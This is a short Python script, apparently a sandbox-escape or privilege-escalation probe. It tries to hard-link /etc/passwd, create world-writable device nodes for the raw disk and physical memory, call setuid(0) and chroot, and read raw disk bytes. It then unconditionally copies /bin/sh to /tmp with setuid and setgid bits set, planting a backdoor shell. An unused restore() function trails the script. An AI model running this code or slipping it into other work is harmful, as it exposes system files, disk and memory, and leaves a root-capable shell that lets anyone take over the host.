"""Make hard links to system files, device nodes and set-user-id programs."""

import os, shutil, stat, sys

for act in (
    lambda: os.link("/etc/passwd", "/tmp/passwd"),
    lambda: os.link(sys.executable, "/tmp/python"),
    lambda: os.mknod("/tmp/disk", stat.S_IFBLK | 0o666, os.makedev(8, 0)),
    lambda: os.mknod("/tmp/mem", stat.S_IFCHR | 0o666, os.makedev(1, 1)),
    lambda: os.setuid(0),
    lambda: os.chroot("/tmp"),
    lambda: print(open("/tmp/disk", "rb").read(10)),
):
    try:
        act()
        print("did it")
    except OSError:
        pass
shutil.copy("/bin/sh", "/tmp/sh")
os.chmod("/tmp/sh", 0o6777)


def restore(path, factory):
    return factory()
